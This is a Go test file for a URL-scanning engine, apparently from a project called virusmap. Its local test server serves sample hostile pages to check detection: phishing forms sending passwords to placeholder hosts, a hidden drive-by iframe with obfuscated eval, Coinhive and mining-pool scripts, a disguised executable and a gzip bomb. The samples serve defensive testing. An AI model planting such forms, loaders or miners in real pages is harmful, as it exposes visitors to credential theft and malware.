package engine

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/virusmap/virusmap/supernode/engine/fetch"
	verdictstypes "github.com/virusmap/virusmap/x/verdicts/types"
)

// web is a server on loopback and the engine that may fetch from it.
type web struct {
	*httptest.Server
	engine Engine
	facts  map[[32]byte]fetch.Facts
}

func startWeb(t *testing.T, pages map[string]http.HandlerFunc, change func(options map[string]any)) *web {
	t.Helper()
	mux := http.NewServeMux()
	for path, page := range pages {
		mux.HandleFunc(path, page)
	}
	w := &web{Server: httptest.NewServer(mux), facts: map[[32]byte]fetch.Facts{}}
	t.Cleanup(w.Close)
	options := map[string]any{"brands": "../../engines/urlrules/brands.txt", "allow": []string{w.Listener.Addr().String()}}
	if change != nil {
		change(options)
	}
	w.engine = openEngines(t, Config{
		Workers: 1, Fetched: func(sample [32]byte, facts fetch.Facts) { w.facts[sample] = facts },
		Engines: []EngineConfig{{Name: "Fetch", Kind: "fetch", Samples: []string{"url"}, Options: options}},
	})["Fetch"]
	return w
}

// port is where the server listens.
func (w *web) port() string {
	_, port, _ := net.SplitHostPort(w.Listener.Addr().String())
	return port
}

func htmlPage(head, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!DOCTYPE html><html><head>%s</head><body>%s</body></html>", head, body)
	}
}

func redirect(to string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header()["Location"] = []string{to}
		w.WriteHeader(http.StatusFound)
	}
}

// One page of each kind on a local server: every category is found.
func TestFetchFindsEachCategory(t *testing.T) {
	shop := strings.Repeat(`<p>Bag -80% <s>$999.00</s> $99.90</p>`, 12)
	pages := map[string]struct {
		serve    http.HandlerFunc
		category verdictstypes.Category
		label    string
	}{
		"/phishing": {
			htmlPage("<title>PayPal: Log in</title>", `<form action="https://collect.example/x" method=post><input name=u><input type=password name=p></form>`),
			malicious, "phishing:log-in-as-paypal.com",
		},
		"/phishing-own": {
			htmlPage("<title>Sign in to your Microsoft account</title>", `<form method=post><input type="PASSWORD" name=p></form>`),
			malicious, "phishing:log-in-as-microsoft.com",
		},
		"/counterfeit": {
			htmlPage("<title>Louis Vuitton Outlet Store - cheap replica bags, free shipping</title>", shop),
			malicious, "counterfeit:shop-of-louisvuitton.com",
		},
		"/malware": {
			func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, eicarText) },
			malicious, "malware:EICAR-Test-File",
		},
		"/picture.png": {
			func(w http.ResponseWriter, _ *http.Request) {
				fmt.Fprint(w, "\x7fELF\x02\x01\x01"+strings.Repeat("\x00", 100))
			},
			malicious, "malware:disguised-program",
		},
		"/drive-by": {
			htmlPage("", `<iframe src="http://kit.example/" width=0 height=0></iframe><script>eval(unescape("%61%6c"))</script>`),
			malicious, "malware:drive-by",
		},
		"/mining": {
			htmlPage("", `<script src="https://cdn.example/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("key").start()</script>`),
			malicious, "cryptomining:miner-in-page",
		},
		"/mining-pool": {
			htmlPage("", `<script>connect("stratum+tcp://pool.example:3333")</script>`),
			malicious, "cryptomining:miner-in-page",
		},
		"/suspicious": {
			htmlPage("<title>Members</title>", `<form action="https://other.example/in"><input type=password></form>`),
			suspicious, "suspicious:password-to-another-site",
		},
		"/download": {
			htmlPage("", `<script>window.location = "https://files.example/update.exe"</script>`),
			suspicious, "malware:program-without-asking",
		},
		"/benign": {htmlPage("<title>Garden club</title>", `<h1>News</h1><p>We meet on Sunday. Tickets $5.00</p><form action="/search"><input name=q></form>`), undetected, ""},
		"/benign-login": {
			htmlPage("<title>Garden club: members</title>", `<form action="/in" method=post><input type=password></form><noscript><iframe src="https://tags.example/" height="0" width="0" style="display:none"></iframe></noscript>`),
			undetected, "",
		},
		"/benign-news": {htmlPage("<title>PayPal and Google report earnings</title>", "<p>Coinhive was a miner that ran until 2019.</p>"), undetected, ""},
		"/gone":        {func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "gone", http.StatusGone) }, undetected, ""},
	}
	handlers := map[string]http.HandlerFunc{}
	for path, page := range pages {
		handlers[path] = page.serve
	}
	w := startWeb(t, handlers, nil)
	for path, page := range pages {
		verdict := w.engine.Scan(context.Background(), urlContent(t, w.URL+path))
		require.Equal(t, page.category, verdict.Category, "%s: %+v", path, verdict)
		require.Equal(t, page.label, verdict.Label, path)
	}
}

func TestFetchTellsFacts(t *testing.T) {
	w := startWeb(t, map[string]http.HandlerFunc{
		"/start":  redirect("/middle?a=b"),
		"/middle": htmlPage(`<meta http-equiv="Refresh" content="0; URL='/end'">`, ""),
		"/end": func(w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Cookie") != "" || r.Header.Get("Accept-Encoding") != "gzip" {
				http.Error(w, "cookies are not kept", http.StatusBadRequest)
				return
			}
			w.Header().Set("Content-Type", "text/html")
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Set-Cookie", "a=b")
			packed := gzip.NewWriter(w)
			fmt.Fprint(packed, "<title> The  &amp; end </title>")
			_ = packed.Close()
		},
	}, nil)
	content := urlContent(t, w.URL+"/start")
	require.Equal(t, undetected, w.engine.Scan(context.Background(), content).Category)
	facts := w.facts[content.SHA256]
	require.Equal(t, w.URL+"/end", facts.FinalURL)
	require.Equal(t, []string{w.URL + "/start", w.URL + "/middle?a=b"}, facts.Chain)
	require.Equal(t, 200, facts.Status)
	require.Equal(t, "The & end", facts.Title)
	require.Equal(t, "127.0.0.1", facts.ServingIP)
	require.EqualValues(t, len("<title> The  &amp; end </title>"), facts.ContentBytes)
	require.Len(t, facts.ContentSHA256, 64)
	require.Equal(t, "a=b", facts.Headers["Set-Cookie"])
	require.Equal(t, map[string]string{"a": "b"}, facts.Cookies)
	require.Nil(t, facts.Certificate)
}

func TestFetchIsBounded(t *testing.T) {
	w := startWeb(t, map[string]http.HandlerFunc{
		"/loop": redirect("/loop"),
		"/large": func(w http.ResponseWriter, _ *http.Request) {
			for range 64 {
				_, _ = w.Write(bytes.Repeat([]byte("a"), 64<<10))
			}
		},
		"/bomb": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			packed := gzip.NewWriter(w)
			_, _ = packed.Write(make([]byte, 64<<20))
			_ = packed.Close()
		},
		"/headers": func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("X-Long", strings.Repeat("a", 100<<10)) },
		"/slow": func(w http.ResponseWriter, r *http.Request) {
			w.(http.Flusher).Flush()
			<-r.Context().Done()
		},
		"/chain1": htmlPage(`<meta http-equiv=refresh content="0;url=/chain2">`, ""),
		"/chain2": htmlPage(`<meta http-equiv=refresh content="1;url=/chain3">`, ""),
		"/chain3": htmlPage(`<meta http-equiv=refresh content="0;url=/chain4">`, ""),
		"/chain4": htmlPage("", ""),
	}, func(options map[string]any) { options["max_bytes"] = 1 << 20 })
	scan := func(path string) (Verdict, fetch.Facts) {
		content := urlContent(t, w.URL+path)
		return w.engine.Scan(context.Background(), content), w.facts[content.SHA256]
	}
	verdict, _ := scan("/loop")
	require.Equal(t, unsupported, verdict.Category)
	require.Contains(t, verdict.Detail, "more than 5 redirects")
	verdict, facts := scan("/large")
	require.Equal(t, undetected, verdict.Category, "%+v", verdict)
	require.EqualValues(t, 1<<20, facts.ContentBytes)
	verdict, facts = scan("/bomb")
	require.Equal(t, undetected, verdict.Category, "%+v", verdict)
	require.EqualValues(t, 1<<20, facts.ContentBytes)
	verdict, _ = scan("/headers")
	require.Contains(t, verdict.Detail, "headers of more than 65536 bytes")
	verdict, _ = scan("/chain1")
	require.Equal(t, "suspicious:chain-of-refreshes", verdict.Label)

	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	verdict = w.engine.Scan(ctx, urlContent(t, w.URL+"/slow"))
	require.Contains(t, []any{timeout, confirmed}, verdict.Category, "%+v", verdict)
	verdict, _ = scan("/chain4")
	require.Equal(t, undetected, verdict.Category, "the worker is free again")
}
